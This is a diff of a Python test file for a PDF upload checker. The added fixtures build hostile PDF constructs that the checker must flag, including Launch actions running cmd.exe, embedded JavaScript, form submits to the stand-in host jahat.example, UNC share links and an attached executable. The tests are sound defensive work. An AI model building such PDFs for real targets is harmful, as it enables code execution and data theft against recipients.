@@ -1,11 +1,13 @@
 """Whatever runs, opens or carries something else is found, however it is spelled and wherever it is kept."""
 
 import zlib
+from collections.abc import Callable
 from typing import Final
 
 import pikepdf
 import pytest
 from django.core.exceptions import ValidationError
+from pikepdf import Name, Pdf
 
 from lib.dokumen import child, periksa
 from tests.lib.dokumen import pdf_susun as susun
@@ -34,6 +36,69 @@ def without_table(isi: bytes) -> bytes:
     return isi[: isi.index(b"xref\n0")] + b"trailer << /Root 1 0 R >>\n%%EOF\n"
 
 
+def annotate(**fields: object) -> Callable[[Pdf], None]:
+    """On the second page, as an editor writes it: one annotation with these entries."""
+
+    def change(pdf: Pdf) -> None:
+        row = pikepdf.Dictionary(Type=Name("/Annot"), Rect=[0, 0, 9, 9], **fields)
+        pdf.pages[1].Annots = pikepdf.Array([pdf.make_indirect(row)])
+
+    return change
+
+
+def action(kind: str, **fields: object) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(S=Name(kind), **fields)
+
+
+def with_field(**fields: object) -> Callable[[Pdf], None]:
+    """A field below another one, which the page shows."""
+
+    def change(pdf: Pdf) -> None:
+        child = pdf.make_indirect(pikepdf.Dictionary(T="b", Subtype=Name("/Widget"), Rect=[0, 0, 9, 9], **fields))
+        parent = pdf.make_indirect(pikepdf.Dictionary(T="a", FT=Name("/Tx"), Kids=[child]))
+        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[parent])
+        pdf.pages[1].Annots = pikepdf.Array([child])
+
+    return change
+
+
+def attach(pdf: Pdf) -> None:
+    pdf.attachments["a.exe"] = b"MZ"
+
+
+def open_page(pdf: Pdf) -> None:
+    pdf.pages[1].AA = pikepdf.Dictionary(O=action("/URI", URI="https://jahat.example"))
+
+
+def fill_names(pdf: Pdf) -> None:
+    """A tree of names of two floors."""
+    leaf = pdf.make_indirect(pikepdf.Dictionary(Names=["a", action("/JavaScript", JS="app.alert(1)")], Limits=["a", "a"]))
+    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Kids=[pikepdf.Dictionary(Kids=[leaf])]))
+
+
+def outline(pdf: Pdf) -> None:
+    with pdf.open_outline() as tree:
+        tree.root.append(pikepdf.OutlineItem("Bab 1", action=action("/Launch", F="cmd.exe")))
+
+
+SUNTINGAN: Final[dict[str, Callable[[Pdf], None]]] = {
+    "file that is attached": attach,
+    "address when the second page opens": open_page,
+    "names of two floors": fill_names,
+    "launch in the outline": outline,
+    "launch in a link": annotate(Subtype=Name("/Link"), A=action("/Launch", F="cmd.exe")),
+    "other file in a link": annotate(Subtype=Name("/Link"), A=action("/GoToR", F="a.pdf", D=[0, Name("/Fit")])),
+    "submit behind a harmless step": annotate(
+        Subtype=Name("/Link"), A=action("/URI", URI="https://example.go.id", Next=[action("/SubmitForm", F="https://jahat.example")])
+    ),
+    "address without a click on a link": annotate(
+        Subtype=Name("/Link"), AA=pikepdf.Dictionary(E=action("/URI", URI="https://jahat.example"))
+    ),
+    "former action of a link": annotate(Subtype=Name("/Link"), PA=action("/Launch", F="cmd.exe")),
+    "rich media": annotate(Subtype=Name("/RichMedia"), RichMediaContent=pikepdf.Dictionary()),
+    "calculation of a field": with_field(AA=pikepdf.Dictionary(C=action("/JavaScript", JS="1"))),
+    "submit of a field": with_field(A=action("/SubmitForm", F="https://jahat.example", Flags=4)),
+}
 ACTIVE = {
     "script": make_pdf(objects=[SCRIPT]),
     "script alone": make_pdf(objects=[b"<< /JS (app.alert(1)) >>"]),
@@ -63,6 +128,18 @@ ACTIVE = {
     "unknown kind of action": make_pdf(objects=[b"<< /A << /S /Baru >> >>"]),
     "endless chain": make_pdf(objects=[b"<< /A 5 0 R >>", b"<< /S /GoTo /Next 5 0 R >>"]),
     "script in a link": make_pdf(objects=[b"<< /S /URI /URI (java\\nscript:alert(1)) >>"]),
+    "script in a link, a number first": make_pdf(objects=[b"<< /S /URI /URI (javascript:1;alert(1)) >>"]),
+    "program in a link, a dot in its scheme": make_pdf(objects=[b"<< /S /URI /URI (x-apple.systempreferences:a) >>"]),
+    "share of another machine in a link": make_pdf(objects=[b"<< /S /URI /URI (\\\\\\\\jahat\\\\a) >>"]),
+    "address without a scheme in a link": make_pdf(objects=[b"<< /S /URI /URI (//jahat.example/a) >>"]),
+    "script as the base of links": make_pdf(catalog=b"/URI << /Base (javascript:alert) >>"),
+    "thread of another file": make_pdf(objects=[b"<< /A << /S /Thread /F (//jahat/a) >> >>"]),
+    "page of another file as a picture": make_pdf(objects=[make_stream(b"", b"/Subtype /Form /Ref << /F (//jahat/a) /Page 0 >>")]),
+    "address when the page opens, held in a stream": make_pdf(
+        objects=[b"<< /AA << /O 5 0 R >> >>", make_stream(b"", b"/S /URI /URI (https://jahat.example)")]
+    ),
+    "program of the printer": make_pdf(objects=[make_stream(b"", b"/Type /XObject /Subtype /PS")]),
+    **{f"written by an editor: {name}": susun.edited(change) for name, change in SUNTINGAN.items()},
     "local file in a link": make_pdf(objects=[b"<< /S /URI /URI (FILE:///C:/a.exe) >>"]),
     "content in another file": make_pdf(objects=[make_stream(b"", b"/F (//jahat/a)")]),
     "in an array in a dictionary": make_pdf(objects=[deep(LAUNCH, 20)]),
